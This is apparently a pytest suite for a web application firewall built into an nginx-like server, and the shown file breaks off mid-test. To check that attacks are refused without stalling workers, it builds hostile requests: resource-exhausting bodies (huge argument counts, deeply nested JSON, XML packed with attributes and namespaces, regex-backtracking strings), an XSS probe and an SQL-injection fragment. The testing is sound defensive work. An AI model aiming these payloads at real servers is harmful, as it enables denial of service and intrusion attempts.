"""The WAF on hostile requests, on other wires, and over the lives of workers."""

import base64
import json
import os
import re
import select
import signal
import time

import pytest

from harness import succeeds_once, wait_until
from harness.kernel import cpu_ns
from harness.h2 import H2, post, with_fields

pytestmark = pytest.mark.weir_only("nginx has no WAF of its own")

CONF_WAF = os.path.join(os.path.dirname(__file__), "..", "..", "conf", "waf", "main.conf")
FORM = [("Content-Type", "application/x-www-form-urlencoded")]
JSON = [("Content-Type", "application/json")]


def waf(*lines):
    text = "SecRuleEngine On\nSecRequestBodyAccess On\n" + "\n".join(lines)
    return "modsecurity on; modsecurity_rules '%s';" % text.replace("'", "\\'")


DENY_EVIL = 'SecRule ARGS "@contains evil" "id:1,phase:2,deny,log"'
AS_JSON = 'SecRule REQUEST_HEADERS:Content-Type "@contains json" "id:2,phase:1,pass,nolog,ctl:requestBodyProcessor=JSON"'
BODY_IS_WRONG = 'SecRule REQBODY_ERROR "!@eq 0" "id:3,phase:2,deny,log,status:400"'
FINE = "client_max_body_size 0; location / { return 200 fine; }"


# ---- hostile bodies

def test_of_100000_arguments_those_over_the_limit_do_not_reach_the_rules_and_the_request_is_refused(weir):
    server = weir(waf("SecArgumentsLimit 1000", DENY_EVIL,
                      'SecRule &ARGS "@ge 1000" "id:4,phase:2,deny,log,status:406"') + FINE)
    many = b"&".join(b"a%d=b" % i for i in range(100000))
    assert server.request("/", "POST", FORM, many).status == 406
    assert server.request("/", "POST", FORM, b"a=b").status == 200


def test_deep_json_is_an_error_that_rules_see(weir):
    server = weir(waf("SecRequestBodyJsonDepthLimit 100", AS_JSON, BODY_IS_WRONG) + FINE)
    assert server.request("/", "POST", JSON, b"[" * 90 + b"]" * 90).status == 200
    assert server.request("/", "POST", JSON, b"[" * 100000 + b"]" * 100000).status == 400


def test_xml_with_a_tag_of_very_many_attributes_is_an_error_that_rules_see_before_they_are_compared(weir):
    as_xml = AS_JSON.replace("json", "xml").replace("JSON", "XML")
    server = weir(waf("SecRequestBodyNoFilesLimit 10000000", as_xml, BODY_IS_WRONG) + FINE, main="worker_processes 1;")
    kind = [("Content-Type", "text/xml")]

    def status(name, count, value=b"x"):
        tag = b"<a %s/>" % b" ".join(b'%s%d="%s"' % (name, i, value) for i in range(count))
        return server.request("/", "POST", kind, b"<r>" + tag + b"x=y " * 100000 + b"<b c='d'/>" * 10000 + b"</r>").status
    before = cpu_ns(server.workers()[0])
    assert [status(name, count) for name in (b"a", b"xmlns:a") for count in (3000, 60000)] == [200, 400, 200, 400]
    assert status(b"a", 3, b"iVBO/+w0" * 100000 + b"==") == 200
    assert cpu_ns(server.workers()[0]) - before < 300_000_000


@pytest.mark.parametrize("document", [
    b"<!--" + b"a=>" * 1_500_000 + b"--><r/>", b"<?a " + b"a=>" * 1_500_000 + b"?><r/>", b"<r><![CDATA[" + b"a=>" * 1_500_000 + b"]]></r>",
    b'<?xml version="1.0" encoding="UTF-7"?><r ' + b" ".join(b"a%d+AD0-''" % i for i in range(60_000)) + b"/>",
    '<?xml version="1.0" encoding="UTF-16"?><r '.encode("utf-16")
    + " ".join(f"a{i}=''" for i in range(60_000)).encode("utf-16-le") + "/>".encode("utf-16-le")],
    ids=["comment", "instruction", "CDATA", "UTF-7", "UTF-16"])
def test_xml_is_not_searched_for_one_end_again_and_again(weir, document):
    as_xml = AS_JSON.replace("json", "xml").replace("JSON", "XML")
    server = weir(waf("SecRequestBodyNoFilesLimit 10000000", as_xml) + FINE, main="worker_processes 1;")
    before = cpu_ns(server.workers()[0])
    assert server.request("/", "POST", [("Content-Type", "text/xml")], document).status == 200
    assert cpu_ns(server.workers()[0]) - before < 1_000_000_000


@pytest.mark.parametrize("around, names, elements, status", [
    (60, 1, 20_000, 200), (2000, 1, 1_000_000, 400), (500, 1, 1_000_000, 400), (400, 60, 200_000, 400)],
    ids=["few", "many namespaces", "many elements", "many attributes"])
def test_xml_namespaces_are_not_looked_for_among_very_many(weir, around, names, elements, status):
    """libxml2 looks at all that are in scope, the innermost first, for each prefix."""
    as_xml = AS_JSON.replace("json", "xml").replace("JSON", "XML")
    server = weir(waf("SecRequestBodyNoFilesLimit 100000000", "SecRequestBodyLimit 100000000", as_xml, BODY_IS_WRONG)
                  + "client_body_buffer_size 100m; modsecurity_memory_limit 1000m;" + FINE, main="worker_processes 1;")
    declared = b" ".join(b'xmlns:n%d="%d"' % (i, i) for i in range(around))
    attributes = b"".join(b' n0:a%d=""' % i for i in range(names - 1))
    document = b"<r %s>%s</r>" % (declared, b"<n0:b%s/>" % attributes * (elements // names))
    before = cpu_ns(server.workers()[0])
    assert server.request("/", "POST", [("Content-Type", "text/xml")], document).status == status
    assert cpu_ns(server.workers()[0]) - before < 400_000_000


def test_a_form_of_many_parts_is_an_error_that_rules_see(weir):
    server = weir(waf("SecArgumentsLimit 100000", "SecUploadFileLimit 10",
                      'SecRule MULTIPART_STRICT_ERROR "!@eq 0" "id:5,phase:2,deny,log,status:400"') + FINE)
    kind = [("Content-Type", "multipart/form-data; boundary=b")]
    part = b'--b\r\nContent-Disposition: form-data; name="f"; filename="%d"\r\n\r\nx\r\n'
    few, many = (b"".join(part % i for i in range(count)) + b"--b--\r\n" for count in (5, 5000))
    assert server.request("/", "POST", kind, few).status == 200
    assert server.request("/", "POST", kind, many).status == 400


@pytest.mark.parametrize("disposition, status", [(b'name="a"', 400), (b'name="a"; filename="a.txt"', 200)])
def test_fields_of_a_multipart_body_have_the_limit_of_other_bodies_and_files_do_not(weir, disposition, status):
    server = weir(waf("SecRequestBodyNoFilesLimit 1000", BODY_IS_WRONG) + FINE)
    kind = [("Content-Type", "multipart/form-data; boundary=b")]
    part = b"--b\r\nContent-Disposition: form-data; %s\r\n\r\n%s\r\n--b--\r\n"
    assert server.request("/", "POST", kind, part % (disposition, b"x")).status == 200
    assert server.request("/", "POST", kind, part % (disposition, b"x" * 2000)).status == status


def test_a_file_without_line_ends_takes_no_longer_than_one_with_them(weir):
    server = weir("client_body_buffer_size 32m;" + waf("SecRequestBodyLimit 33554432", BODY_IS_WRONG) + FINE,
                  main="worker_processes 1;")
    kind = [("Content-Type", "multipart/form-data; boundary=b")]
    part = b'--b\r\nContent-Disposition: form-data; name="a"; filename="a"\r\n\r\n%s\r\n--b--\r\n'

    def cost(line):
        before = cpu_ns(server.workers()[0])
        assert server.request("/", "POST", kind, part % (line * (30_000_000 // len(line)))).status == 200
        return cpu_ns(server.workers()[0]) - before
    with_ends = min(cost(b"a" * 4000 + b"\r\n") for _ in range(3))
    assert cost(b"a" * 4002) < 4 * with_ends


@pytest.mark.parametrize("limit, what", [("modsecurity_work_limit 100k;", "work"),
                                         ("modsecurity_memory_limit 64k;", "memory")])
def test_what_takes_more_than_its_budget_is_refused_and_logged(weir, limit, what):
    server = weir(limit + waf("SecArgumentsLimit 100000", DENY_EVIL) + FINE)
    assert server.get("/?a=b").status == 200
    many = b"&".join(b"a%d=harmless+%%61" % i for i in range(3000))
    assert server.request("/", "POST", FORM, many).status == 403
    assert f"budget of {what} is used up" in server.log()
    assert server.get("/?a=b").status == 200


def test_text_around_an_attack_does_not_make_a_regex_give_up_however_low_its_limit(weir):
    server = weir(waf("SecPcreMatchLimit 1000", r'SecRule ARGS "@rx \bgroup\b.*?\bby\b.{1,100}?\bhaving\b" "id:1,deny"') + FINE)
    attack = b"a=" + b"group by x " * 400 + b"having 1=1"
    assert server.request("/", "POST", FORM, attack).status == 403
    assert server.request("/", "POST", FORM, attack.replace(b"having", b"without")).status == 200


SLOW = 'SecRule ARGS "@rx %s<.*?<.*?<.*?(?=sc|ty)" "id:1,phase:2,deny"'


@pytest.mark.parametrize("anchor", ["^.*?"])
def test_a_regex_that_looks_through_the_rest_at_each_step_is_given_up_in_time_on_a_short_value_too(weir, anchor):
    server = weir(waf(SLOW % anchor) + FINE)
    before = cpu_ns(server.workers()[0])
    assert server.request("/", "POST", FORM, b"a=sc" + b"<" * 8000).status == 403
    assert cpu_ns(server.workers()[0]) - before < 1_000_000_000
    assert "the regex gave up at its match limit" in server.log()
    assert "budget of steps of a regex is used up in phase 2" in server.log()


@pytest.mark.parametrize("mode, rules, status", [
    ("on", "", 403), ("detection", "", 200),
    ("on", 'SecRule TX:MSC_PCRE_LIMITS_EXCEEDED "!@eq 0" "id:2,phase:2,deny,status:406"', 406),
    ("on", 'SecRule TX:MSC_PCRE_LIMITS_EXCEEDED "!@eq 0" "id:2,phase:2,allow,nolog"', 200)])
def test_what_a_regex_gave_up_on_is_refused_unless_rules_allow_it(weir, mode, rules, status):
    server = weir(waf(SLOW % "^.*?", rules).replace("modsecurity on", f"modsecurity {mode}") + FINE)
    assert server.request("/", "POST", FORM, b"a=sc" + b"<" * 8000).status == status


@pytest.mark.parametrize("mode, rules, status", [
    ("on", "", 403), ("detection", "", 200), ("on", 'SecRule TX:MSC_PCRE_LIMITS_EXCEEDED "!@eq 0" "id:2,phase:4,allow,nolog"', 200)])
@pytest.mark.parametrize("phase, variable", [(3, "RESPONSE_HEADERS:X-Slow"), (4, "RESPONSE_BODY")])
def test_of_a_response_too_what_a_regex_gave_up_on_is_refused_unless_rules_allow_it(weir, upstream, phase, variable, mode, rules, status):
    slow = b"a" * 60 + b"b"
    upstream.answers(b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nX-Slow: %s\r\nContent-Length: %d\r\n\r\n%s"
                     % (slow, len(slow), slow))
    rules = rules.replace("phase:4", f"phase:{phase}")
    server = weir(waf("SecResponseBodyAccess On", "SecResponseBodyMimeType text/plain",
                      f'SecRule {variable} "@rx ^(?:a|aa)+$" "id:1,phase:{phase},pass,nolog"', rules)
                  .replace("modsecurity on", f"modsecurity {mode}") + "location / { proxy_pass http://@upstream@; }")
    response = server.get("/")
    assert (response.status, slow in response.body) == (status, status == 200)
    assert ("budget of steps of a regex is used up in phase %d" % phase in server.log()) == (status == 403)


def test_a_regex_that_gave_up_on_a_request_that_rules_allowed_refuses_no_response(weir):
    server = weir(waf('SecRule ARGS "@rx ^(?:a|aa)+$" "id:1,phase:1,pass,nolog"', 'SecAction "id:2,phase:1,allow:request,nolog"',
                      'SecAction "id:3,phase:3,pass,nolog"') + FINE)
    assert server.get("/?a=" + "a" * 60 + "b").status == 200
    assert "the regex gave up at its match limit" in server.log()


def test_what_a_regex_gave_up_on_is_refused_with_the_rules_that_come_with_weir(weir, folder):
    """This regex stands where a site's own rules do, behind CRS."""
    with open(CONF_WAF, "rb") as file:
        folder.write("waf/main.conf", file.read())
    folder.write("waf/exclusions.conf", 'SecRule ARGS:slow "@rx ^(?:a|aa)+$" "id:1,phase:2,pass,nolog"\n')
    server = weir("modsecurity on; modsecurity_rules_file waf/main.conf;" + FINE)
    browser = [("Host", "shop.test"), ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64)"), ("Accept", "*/*")]
    assert server.request("/?slow=aaaa", "GET", browser).status == 200
    assert server.request("/?slow=" + "a" * 60 + "b", "GET", browser).status == 403
    assert "the regex gave up at its match limit" in server.log()


def test_a_value_of_any_length_has_its_line_in_the_verdict_log(weir):
    server = weir("modsecurity_verdict_log verdicts.json;" + waf(
        *(f'SecRule ARGS|ARGS_NAMES "@contains evil" "id:{i},phase:2,pass,log,logdata:\'%{{MATCHED_VAR}}\',setvar:tx.anomaly_score=+1"'
          for i in range(10, 24)), DENY_EVIL) + FINE)
    body = b"evil" + b"\\" * 100000 + b"=evil" + b"\\" * 100000
    assert server.request("/", "POST", FORM, body).status == 403
    wait_until(lambda: server.read("verdicts.json").endswith("\n"))
    assert json.loads(server.read("verdicts.json"))["rule"] == 1


def test_where_rules_only_detect_a_budget_refuses_nothing(weir):
    server = weir("modsecurity_memory_limit 64k;" + waf(DENY_EVIL).replace("modsecurity on", "modsecurity detection")
                  + FINE)
    assert server.request("/", "POST", FORM, b"a=" + b"b" * 100000).status == 200
    assert "budget of memory is used up" in server.log()


def test_a_coded_body_is_not_decoded_and_the_log_says_so(weir):
    server = weir(waf(DENY_EVIL) + FINE)
    coded = FORM + [("Content-Encoding", "gzip")]
    assert server.request("/", "POST", coded, b"\x1f\x8b\x08" + b"\0" * 50).status == 200
    server.wait_log("the request's body is coded with \"gzip\"")


def assert_others_are_served(server, content_type, body):
    """Five small requests, one after the other, from the last byte of a large one to its answer; or, where a quick machine
    has answered that before, more than one, none of which waits for half of that time."""
    def others_are_served():
        with server.connect() as large, server.connect() as small:
            large.send(b"POST / HTTP/1.1\r\nHost: a\r\nContent-Type: %s\r\nContent-Length: %d\r\n\r\n"
                       % (content_type.encode(), len(body)) + body[:-1])
            large.wait_read()
            assert small.request("/").status == 200
            large.send(body[-1:])
            looks = [time.monotonic()]
            while not select.select([large.sock], [], [], 0)[0] and len(looks) <= 5:
                assert small.request("/").status == 200
                looks.append(time.monotonic())
            assert large.read_response().status == 200
        all_s = looks[-1] - looks[0]
        longest_s = max((after - before for before, after in zip(looks, looks[1:])), default=0)
        return len(looks) > 5 or (len(looks) > 2 and longest_s < all_s / 2)
    # Who asks may be kept from a processor for as long as all of it takes.
    succeeds_once(others_are_served)


def test_others_are_served_while_the_worst_body_is_looked_at(weir):
    """Without turns of 2 ms the large request's whole inspection would lie between two small ones."""
    slow = 'SecRule ARGS "@rx (x).*\\1.*[YZ]" "id:100,phase:2,deny"'
    server = weir(main="worker_processes 1;", http="modsecurity_prefilter off;", server=waf(
        "SecArgumentsLimit 100000", "SecRequestBodyNoFilesLimit 10000000", slow)
        + "modsecurity_work_limit 1000g; modsecurity_memory_limit 1000m; client_body_buffer_size 2m;" + FINE)
    body = b"&".join(b"a%d=%s" % (i, b"xmnopqrstuv0" * 80) for i in range(300))
    assert_others_are_served(server, "application/x-www-form-urlencoded", body)


def test_others_are_served_while_a_large_body_is_parsed(weir):
    """Without turns all of the parsing would lie between two small requests."""
    server = weir(main="worker_processes 1;", server=waf("SecRequestBodyLimit 33554432", BODY_IS_WRONG)
                  + "modsecurity_work_limit 1000g; client_body_buffer_size 32m;" + FINE)
    body = (b'--b\r\nContent-Disposition: form-data; name="a"; filename="a"\r\n\r\n' + b"\r\n--" * 7_000_000
            + b"\r\n--b--\r\n")
    assert_others_are_served(server, "multipart/form-data; boundary=b", body)


@pytest.mark.parametrize("where", ["client_body_buffer_size 32m;", ""], ids=["memory", "file"])
def test_others_are_served_while_a_large_body_is_handed_to_the_rules(weir, where):
    server = weir(main="worker_processes 1;", server=waf("SecRequestBodyLimit 33554432") + where + FINE)
    assert_others_are_served(server, "text/plain", b"x" * 33_000_000)


def test_a_body_that_is_handed_over_in_turns_is_whole(weir):
    server = weir(waf("SecRequestBodyNoFilesLimit 10000000", 'SecRule ARGS:z "@streq evil" "id:1,phase:2,deny"',
                      'SecRule REQUEST_BODY_LENGTH "!@eq 5000008" "id:2,phase:2,deny,status:500"') + FINE)
    for word, status in ((b"evil", 403), (b"good", 200)):
        assert server.request("/", "POST", FORM, b"a=" + b"x" * 4_999_999 + b"&z=" + word).status == status


@pytest.mark.parametrize("form", ["JSON", "Native"])
def test_an_entry_of_the_audit_log_that_is_full_takes_no_time_for_more(weir, folder, form):
    folder.write("messages.conf", "\n".join(f"SecRule ARGS \"@contains evil\" \"id:{i},phase:2,pass,log,msg:'%{{MATCHED_VAR}}'\"" for i in range(100, 500)) + "\n")
    server = weir("client_body_buffer_size 2m;" + waf(
        "SecRequestBodyNoFilesLimit 10000000", "SecAuditEngine On", "SecAuditLog audit.log",
        f"SecAuditLogFormat {form}") + "modsecurity_rules_file messages.conf;" + FINE, main="worker_processes 1;")
    before = cpu_ns(server.workers()[0])
    assert server.request("/", "POST", FORM, b"a=" + b"evil" * 250000).status == 200
    wait_until(lambda: server.read("audit.log").endswith("\n"))
    assert cpu_ns(server.workers()[0]) - before < 500_000_000


VERY_MANY = "\n".join(
    f'SecRule ARGS "@contains evil" "id:{i},phase:2,{action},log,auditlog,msg:\'rule {i}\',setvar:tx.anomaly_score=+1"'
    for i, action in [(i, "pass") for i in range(10_000, 20_000)] + [(9, "deny")]) + "\n"


@pytest.mark.parametrize("form", ["JSON", "Native"])
def test_of_very_many_rules_that_match_a_line_has_some_and_says_how_many_it_leaves_out(weir, folder, form):
    folder.write("very-many.conf", VERY_MANY)
    server = weir("modsecurity_verdict_log verdicts.json; modsecurity_learn learnt.conf;" + waf(
        "SecAuditEngine On", "SecAuditLog audit.log", "SecAuditLogParts ABHZ", f"SecAuditLogFormat {form}", "SecArgumentsLimit 10000")
        + "modsecurity_work_limit 100g; modsecurity_memory_limit 1000m; modsecurity_rules_file very-many.conf;" + FINE)
    assert server.request("/", "POST", FORM, b"&".join(b"a%d=evil" % i for i in range(990))).status == 200
    wait_until(lambda: server.read("verdicts.json").endswith("\n"))
    verdict = json.loads(server.read("verdicts.json"))
    ids = list(range(10_000, 10_256)) + [9]
    assert [rule["id"] for rule in verdict["rules"]] == ids and verdict["rules_left_out"] == 9744
    assert verdict["exclusion"] == "" and verdict["exclusion_is_left_out"]
    if form == "JSON":
        entry = json.loads(server.read("audit.log"))["transaction"]
        assert [int(message["details"]["ruleId"]) for message in entry["messages"]] == ids
        assert entry["messages_left_out"] == 9744
    else:
        assert [int(number) for number in re.findall(r'\[id "(\d+)"\]', server.read("audit.log"))] == ids
        assert "\nLeft out: 9744 rules, 0 bytes of the request's body, 0 bytes of the response's body\n" in server.read("audit.log")
    assert server.log().count('ModSecurity: Warning. Matched') == 10_001
    server.wait_log("nothing is learnt of the request")
    assert server.read("learnt.conf") == ""


# ---- what one reader sees and another does not

def test_the_query_of_an_absolute_target_without_a_path_is_looked_at(weir):
    server = weir(waf(DENY_EVIL) + FINE)
    for target, status in (("http://a.test?q=evil", 403), ("http://a.test?q=/../evil", 403), ("http://a.test?q=good", 200)):
        connection = server.connect()
        connection.send(f"GET {target} HTTP/1.1\r\nHost: a.test\r\n\r\n".encode())
        assert connection.read_response().status == status, target


@pytest.mark.parametrize("target", ["/?a=1#b=evil", "/#?b=evil", "http://a/?a=1#evil"])
def test_what_the_origin_gets_behind_a_fragment_mark_is_looked_at(weir, upstream, target):
    upstream.answers(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
    server = weir(waf('SecRule ARGS|ARGS_NAMES "@contains evil" "id:1,phase:2,deny,log"',
                      'SecRule REQUEST_FILENAME "!@streq /" "id:2,phase:2,deny,status:500"') + "location / { proxy_pass http://@upstream@; }")
    for word, status in (("evil", 403), ("good", 200)):
        connection = server.connect()
        connection.send(b"GET %s HTTP/1.1\r\nHost: a\r\n\r\n" % target.replace("evil", word).encode())
        assert connection.read_response().status == status
    assert len(upstream.requests) == 1


@pytest.mark.parametrize("field", [b"Cookie: =evil", b"Cookie: a=b; =evil", b"Cookie: evil", b"Cookie: a=b\r\nCookie: c=evil"])
@pytest.mark.parametrize("place", ["head", "trailer section"])
def test_each_cookie_is_looked_at(weir, field, place):
    server = weir(waf('SecRule REQUEST_COOKIES|REQUEST_COOKIES_NAMES "@contains evil" "id:1,phase:2,deny"') + FINE)
    request = b"POST / HTTP/1.1\r\nHost: a\r\n%sTransfer-Encoding: chunked\r\n\r\n1\r\nx\r\n0\r\n%s\r\n"
    for word, status in ((b"evil", 403), (b"good", 200)):
        line = field.replace(b"evil", word) + b"\r\n"
        connection = server.connect()
        connection.send(request % ((line, b"") if place == "head" else (b"", line)))
        assert connection.read_response().status == status


def test_rules_see_the_protocol_that_the_client_named(weir):
    server = weir(waf('SecRule REQUEST_PROTOCOL "!@within HTTP/1.0 HTTP/1.1" "id:6,phase:1,deny"') + FINE)
    for protocol, status in (("HTTP/1.1", 200), ("HTTP/1.2", 403)):
        connection = server.connect()
        connection.send(f"GET / {protocol}\r\nHost: a\r\nConnection: close\r\n\r\n".encode())
        assert connection.read_response().status == status, protocol


@pytest.mark.parametrize("rule", [
    r'FULL_REQUEST "@rx ^POST /p HTTP/1.1\x0aHost: a\x0a"', r'FULL_REQUEST "@rx \x0a\x0aa=b$"',
    'FULL_REQUEST_LENGTH "@gt 40"', 'PATH_INFO "@streq /p"'])
def test_rules_see_the_whole_request(weir, rule):
    server = weir(waf(f'SecRule {rule} "id:6,phase:2,deny"') + FINE)
    assert server.request("/p", "POST", [("Host", "a")] + FORM, b"a=b").status == 403


@pytest.mark.parametrize("name", ["X-A", "evil"])
def test_rules_of_phase_2_see_the_trailer_section(weir, name):
    server = weir(waf('SecRule REQUEST_HEADERS:X-A|REQUEST_HEADERS_NAMES "@contains evil" "id:6,phase:2,deny"') + FINE)
    for value, status in (("good", 200 if name == "X-A" else 403), ("evil", 403)):
        connection = server.connect()
        connection.send(b"POST / HTTP/1.1\r\nHost: a\r\nX-A: b\r\nTransfer-Encoding: chunked\r\n\r\n"
                        b"1\r\nx\r\n0\r\n%s: %s\r\n\r\n" % (name.encode(), value.encode()))
        assert connection.read_response().status == status, value


# ---- other wires, and once each

def test_http2_has_the_same_verdicts(weir):
    server = weir(waf(DENY_EVIL, 'SecRule REQUEST_PROTOCOL "!@beginsWith HTTP/" "id:6,phase:1,deny"',
                      'SecRule &REQUEST_HEADERS:Host "@eq 0" "id:7,phase:1,deny"') + "http2 on;" + FINE)
    client = H2(server.connect())
    form = post(("content-type", "application/x-www-form-urlencoded"))
    assert client.get("/?q=good").status == 200
    assert client.get("/?q=evil").status == 403
    assert client.request(form, b"q=go%6Fd").status == 200
    assert client.request(form, b"q=ev%69l").status == 403


def test_cookies_that_http2_split_are_one_header(weir):
    server = weir(waf('SecRule REQUEST_COOKIES:b "@streq evil" "id:1,phase:1,deny"') + "http2 on;" + FINE)
    client = H2(server.connect())
    assert client.request(with_fields(("cookie", "a=1"), ("cookie", "b=evil"))).status == 403


def test_a_request_is_looked_at_once_on_its_way_through_internal_redirects(weir):
    server = weir(waf('SecAction "id:7,phase:1,pass,log"', 'SecAction "id:8,phase:2,pass,log"') + """
        root @dir@; index page; error_page 404 =200 /there;
        location /there { return 200 there; }
        location /rewritten { rewrite ^ /there last; }
        location /tried { try_files /nothing /there; }
    """)
    for path in ("/rewritten", "/tried", "/nothing"):
        assert server.get(path).text == "there", path
    for number in (7, 8):
        assert server.log().count(f'[id "{number}"]') == 3


@pytest.mark.parametrize("where", ["server", "location"])
@pytest.mark.parametrize("way", ["rewrite ^ /off last;", "try_files /nothing /off;", "auth_basic x; auth_basic_user_file /dev/null; error_page 401 = @off;", "root @dir@; error_page 404 = /off;"])
def test_a_redirect_to_where_rules_are_off_leads_past_no_phase(weir, upstream, where, way):
    upstream.answers(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
    rules = waf(DENY_EVIL)
    off = "modsecurity off; proxy_pass http://@upstream@;"
    server = weir((rules if where == "server" else "") + "location /in { %s %s } location = /off { %s } location @off { %s }"
                  % (rules if where == "location" else "", way, off, off))
    assert server.request("/in", "POST", FORM, b"q=good").status == 200
    assert server.request("/in", "POST", FORM, b"q=evil").status == 403
    assert server.request("/off", "POST", FORM, b"q=evil").status == 200
    assert len(upstream.requests) == 2


# ---- cheap denials come first

REFUSERS = {
    "a password": ("", "auth_basic x; auth_basic_user_file /dev/null;", 401),
    "an address": ("", "deny all;", 403),
    "a rate": ("limit_req_zone $server_addr zone=z:1m rate=1r/m;", "limit_req zone=z;", 503),
}
HEAD_AND_BODY = waf('SecAction "id:1,phase:1,pass,log"', 'SecAction "id:2,phase:2,pass,log"', DENY_EVIL.replace("id:1", "id:3"))
UNSENT = (b"POST /in/ HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\n"
          b"Content-Length: 1000\r\n\r\n")


@pytest.mark.parametrize("page", ["", "error_page 401 403 503 /page;"])
@pytest.mark.parametrize("refuser", REFUSERS)
def test_who_is_refused_anyway_is_not_asked_for_a_body_that_rules_would_look_at(weir, upstream, refuser, page):
    upstream.answers(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
    http, refuses, status = REFUSERS[refuser]
    server = weir(http=http, server=HEAD_AND_BODY + page + "root @dir@;"
                  "location /in/ { %s proxy_pass http://@upstream@; }" % refuses)
    server.folder.write("page", "sorry")
    if refuser == "a rate":
        assert server.request("/in/", "POST", FORM, b"a=b").status == 200
    before = server.log().count('[id "1"]'), server.log().count('[id "2"]')
    connection = server.connect()
    connection.send(UNSENT)
    response = connection.read_response()
    assert response.status == status
    assert (response.text == "sorry") == (page != "")
    connection.close()
    server.wait_log('[id "1"]')
    assert server.log().count('[id "2"]') == before[1]
    assert server.log().count('[id "1"]') == before[0] + 1


def test_an_error_page_that_passes_the_body_on_has_it_looked_at(weir, upstream):
    upstream.answers(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
    server = weir(HEAD_AND_BODY + "error_page 403 = @other; location /in/ { deny all; } "
                  "location @other { proxy_pass http://@upstream@; }")
    assert server.request("/in/", "POST", FORM, b"q=good").status == 200
    assert server.request("/in/", "POST", FORM, b"q=evil").status == 403
    assert len(upstream.requests) == 1


@pytest.mark.parametrize("level", ["server", "location"])
def test_who_is_asked_whether_a_request_may_pass_gets_none_that_rules_refuse(weir, upstream, new_upstream, level):
    upstream.answers(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
    asked = new_upstream().answers(b"HTTP/1.1 204 No Content\r\n\r\n")
    rules = waf('SecRule ARGS|REQUEST_COOKIES "@contains evil" "id:3,phase:2,deny"', 'SecAction "id:2,phase:2,pass,log"')
    server = weir((rules if level == "server" else "") + "location / { %s auth_request /auth; proxy_pass http://@upstream@; } "
                  "location = /auth { internal; proxy_pass http://127.0.0.1:%d/auth?$args; proxy_pass_request_body off; "
                  "proxy_set_header Content-Length ''; }" % (rules if level == "location" else "", asked.port))
    assert server.get("/?q=evil").status == 403
    assert server.request("/", "GET", [("Cookie", "a=evil")]).status == 403
    assert server.request("/", "POST", FORM, b"q=evil").status == 403
    assert asked.requests == [] and upstream.requests == []
    assert server.request("/", "POST", FORM, b"q=good").status == 200
    assert len(asked.requests) == len(upstream.requests) == 1
    assert server.log().count('[id "2"]') == 1


def test_passwords_come_before_who_else_is_asked_and_rules_know_them(weir, upstream, new_upstream, folder):
    """Also under `satisfy any`, where a refusal by rules is none that another may make good."""
    folder.write("users", "bob:{PLAIN}secret\n")
    asked = new_upstream().answers(b"HTTP/1.1 204 No Content\r\n\r\n")
    upstream.answers(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
    server = weir(waf('SecRule REMOTE_USER "@streq bob" "id:2,phase:2,pass,log"', 'SecRule ARGS "@contains evil" "id:3,phase:2,deny"')
                  + 'auth_basic x; auth_basic_user_file users; '
                  "location / { auth_request /auth; proxy_pass http://@upstream@; } "
                  "location /any { satisfy any; deny all; auth_request /auth; proxy_pass http://@upstream@; } "
                  "location = /auth { auth_basic off; internal; proxy_pass http://127.0.0.1:%d; }" % asked.port)
    bob = [("Authorization", "Basic " + base64.b64encode(b"bob:secret").decode())]
    assert server.request("/", "GET").status == 401
    assert asked.requests == []
    assert server.request("/", "GET", bob).status == 200
    assert server.log().count('[id "2"]') == 1 and len(asked.requests) == 1
    assert server.get("/any?a=evil").status == 403
    assert len(asked.requests) == 1
    assert server.get("/any?a=good").status == 200
    assert len(asked.requests) == 2


def test_a_body_without_a_type_is_looked_at_with_the_rules_that_come_with_weir(weir, folder):
    with open(CONF_WAF, "rb") as file:
        folder.write("waf/main.conf", file.read())
    server = weir("modsecurity on; modsecurity_rules_file waf/main.conf;" + FINE)
    browser = [("Host", "shop.test"), ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64)"), ("Accept", "*/*")]
    assert server.request("/", "POST", browser, b"a=good").status == 200
    assert server.request("/", "POST", browser, b"a=<script>alert(1)</script>").status == 403


def test_rules_of_phase_2_know_who_has_authenticated(weir):
    server = weir(waf('SecRule REMOTE_USER "@streq guest" "id:6,phase:2,deny,status:406"') + "root @dir@;"
                  "location / { auth_basic x; auth_basic_user_file @dir@/users; }")
    server.folder.write("users", "guest:{PLAIN}a\nowner:{PLAIN}a\n")
    server.folder.write("page", "content")
    for user, status in (("guest", 406), ("owner", 200)):
        secret = base64.b64encode(f"{user}:a".encode()).decode()
        assert server.request("/page", "GET", [("Authorization", "Basic " + secret)]).status == status


@pytest.mark.parametrize("way", ["at once", "later"])
def test_a_body_that_is_too_large_has_its_error_page(weir, way):
    server = weir(HEAD_AND_BODY + "root @dir@; client_max_body_size 10; error_page 413 /page; location /in/ { }")
    server.folder.write("page", "too large")
    connection = server.connect()
    head = b"POST /in/ HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nx\r\n"
    if way == "later":
        connection.send(head)
        server.wait_log('[id "1"]')
        head = b""
    connection.send(head + b"40\r\n" + b"x" * 64 + b"\r\n0\r\n\r\n")
    response = connection.read_response()
    assert (response.status, response.text) == (413, "too large")


# ---- collections that outlive requests

COUNTING = waf('SecAction "id:1,phase:1,pass,nolog,initcol:ip=%{REMOTE_ADDR},setvar:ip.seen=+1"',
               'SecRule IP:seen "@gt 3" "id:2,phase:1,deny,status:429"') + FINE


def statuses(server, count):
    return [server.get("/").status for _ in range(count)]


def test_collections_are_shared_by_workers_and_survive_reloads(weir):
    server = weir(main="worker_processes 2;", server=COUNTING)
    assert statuses(server, 2) == [200, 200]
    server.reload()
    assert statuses(server, 2) == [200, 429]


def test_collections_survive_a_worker_that_is_killed(weir):
    server = weir(main="worker_processes 1;", server=COUNTING, alerts=("exited on signal 9",))
    assert statuses(server, 3) == [200, 200, 200]
    before = server.workers()
    os.kill(before[0], signal.SIGKILL)
    server.wait_new_workers(before)
    assert statuses(server, 1) == [429]


def test_a_collection_is_gone_when_nobody_touched_it_for_its_timeout(weir):
    server = weir(COUNTING.replace("SecRuleEngine On", "SecCollectionTimeout 1\nSecRuleEngine On"))
